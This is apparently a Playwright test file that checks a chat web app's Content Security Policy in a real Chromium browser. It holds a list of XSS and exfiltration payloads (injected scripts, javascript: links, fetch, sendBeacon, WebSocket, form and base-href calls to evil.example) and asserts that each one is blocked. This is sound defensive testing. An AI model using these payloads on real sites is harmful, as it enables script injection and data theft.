"""The content policy in a real Chromium: the page must live with it, and an attacker must not."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from chat.web.policy import Policy
from tests.program import Program
from tests.serving import served
from tests.unit.web.mounted import small_server

pytestmark = pytest.mark.browser

TABS = 7  # one more than the connections that a browser grants a host

INTO_PAGE = "document.body.insertAdjacentHTML('beforeend', '{}')"
# What an attacker would have the page do, and the directive that forbids it.
ATTACKS = [
    ("script-src-attr", INTO_PAGE.format("<img src=/favicon.ico onload=won()>")),
    (
        "script-src-elem",
        "const s = document.createElement('script'); s.text = 'won()'; document.body.append(s)",
    ),
    (
        "script-src-elem",
        (
            "const s = document.createElement('script'); s.src = '//evil.example/x.js';"
            "document.body.append(s)"
        ),
    ),
    (
        "script-src-elem",
        (
            "const a = document.createElement('a'); a.href = 'javascript:won()';"
            "document.body.append(a); a.click()"
        ),
    ),
    ("img-src", INTO_PAGE.format("<img src=http://evil.example/leak>")),
    ("media-src", INTO_PAGE.format("<video src=http://evil.example/leak></video>")),
    ("style-src-elem", INTO_PAGE.format("<link rel=stylesheet href=http://evil.example/leak>")),
    ("frame-src", INTO_PAGE.format("<iframe src=http://evil.example/></iframe>")),
    ("object-src", INTO_PAGE.format("<object data=/theme.css></object>")),
    ("base-uri", INTO_PAGE.format("<base href=http://evil.example/>")),
    ("connect-src", "fetch('http://evil.example/leak').catch(() => 0)"),
    ("connect-src", "try { new WebSocket('ws://evil.example/') } catch { 0 }"),
    ("connect-src", "navigator.sendBeacon('http://evil.example/leak', 'x')"),
    (
        "form-action",
        INTO_PAGE.format("<form id=leak action=http://evil.example/></form>")
        + "; document.querySelector('#leak').requestSubmit()",
    ),
]


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    with served(small_server(Policy())) as port:
        yield f"http://127.0.0.1:{port}"


def told(page: Page, text: str) -> None:
    expect(page.locator("#told").get_by_label("Told")).to_have_value(text)


def opened(page: Page, address: str) -> list[str]:
    """Opens the page and returns the complaints that will gather there."""
    complaints: list[str] = []
    page.on("console", lambda m: complaints.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("response", lambda r: complaints.append(r.url) if r.status >= 400 else None)
    page.goto(address)
    told(page, "loaded")
    return complaints


def test_the_page_works_under_its_policy_without_a_complaint(
    chromium: Browser, address: str
) -> None:
    page = chromium.new_page()
    complaints = opened(page, address)
    page.get_by_label("Said").fill("abc")
    page.locator("#shout").click()
    told(page, "ABC")
    page.get_by_label("Tools").check()
    told(page, "tools True")
    page.locator("#spot button").click()
    told(page, "picked")
    page.locator("#here").click()
    told(page, "from here")
    page.get_by_label("Model").click()
    page.get_by_role("option", name="b").click()
    told(page, "model b")
    assert complaints == []
    page.close()


def test_seven_tabs_of_one_browser_all_stay_alive(chromium: Browser, address: str) -> None:
    """Held connections would starve the seventh: a browser opens six to a host."""
    context = chromium.new_context()
    pages = [context.new_page() for _ in range(TABS)]
    for page in pages:
        assert opened(page, address) == []
    for page in pages:
        page.get_by_label("Said").fill("still here")
        page.locator("#shout").click()
        told(page, "STILL HERE")
    context.close()


@pytest.fixture(scope="module")
def attacked(chromium: Browser, address: str) -> Iterator[Page]:
    page = chromium.new_page()
    opened(page, address)
    yield page
    page.close()


@pytest.mark.parametrize(("directive", "attack"), ATTACKS)
def test_what_gets_into_the_page_can_neither_run_nor_reach_out(
    attacked: Page, directive: str, attack: str
) -> None:
    outcome = attacked.evaluate(
        """([directive, attack]) => new Promise(resolve => {
            window.won = () => resolve('the attacker won');
            document.addEventListener('securitypolicyviolation', event => {
                if (event.effectiveDirective === directive) resolve('forbidden');
            });
            setTimeout(() => resolve('nothing happened'), 30000);
            Function(attack)();
        })""",
        [directive, attack],
    )
    assert outcome == "forbidden"


def test_the_live_socket_of_the_same_server_is_allowed(chromium: Browser, address: str) -> None:
    """Without it nobody would see an answer arrive."""
    page = chromium.new_page()
    opened(page, address)
    outcome = page.evaluate(
        """() => new Promise(resolve => {
            document.addEventListener('securitypolicyviolation', () => resolve('forbidden'));
            const socket = new WebSocket(location.origin.replace('http', 'ws') + '/echo');
            socket.onopen = () => socket.send('hello');
            socket.onmessage = event => resolve(event.data);
        })"""
    )
    assert outcome == "hello"
    page.close()


# What the page would do if its policy were stricter: by which scripts, and what.
OBSERVED = "script-src 'self' 'unsafe-inline'; require-trusted-types-for 'script'"
LISTENS = """
    window.observed = [];
    document.addEventListener('securitypolicyviolation', event => {
        window.observed.push([event.effectiveDirective, event.blockedURI, event.sourceFile]);
    });
"""


def test_eval_is_granted_for_one_part_of_gradio_and_ours_need_nothing(
    chromium: Browser, easel: Program
) -> None:
    """Whoever sees this fail after an update of Gradio may be able to drop ``'unsafe-eval'``."""
    context = chromium.new_context()
    context.add_init_script(LISTENS)

    def watched(route: Route) -> None:
        answer = route.fetch()
        headers = {**answer.headers, "content-security-policy-report-only": OBSERVED}
        route.fulfill(response=answer, headers=headers)

    page = context.new_page()
    page.route(f"{easel.address}/", watched)
    page.goto(easel.address)
    expect(page.locator("body[data-settings=shown]")).to_be_attached()
    observed = page.evaluate("window.observed")
    scripts = {
        (directive, blocked, str(source).rpartition("/")[2].partition("-")[0])
        for directive, blocked, source in observed
    }
    evaluating = {script for directive, blocked, script in scripts if blocked == "eval"}
    assert evaluating == {"Blocks"}
    assert not [each for each in observed if "/easel/js/" in each[2]]
    context.close()


def test_what_is_not_yet_trusted_is_looked_at_and_breaks_nothing(
    chromium: Browser, easel: Program
) -> None:
    page = chromium.new_page()
    answer = page.goto(easel.address)
    assert answer is not None
    looked_at = answer.headers["content-security-policy-report-only"]
    assert looked_at == "require-trusted-types-for 'script'; trusted-types easel"
    assert "base-uri 'none'" in answer.headers["content-security-policy"]
    expect(page.locator("body[data-easel=ready]")).to_be_attached()
    page.evaluate("document.head.insertAdjacentHTML('afterbegin', '<base href=//evil.example/>')")
    assert page.evaluate("document.baseURI") == f"{easel.address}/"
    page.close()
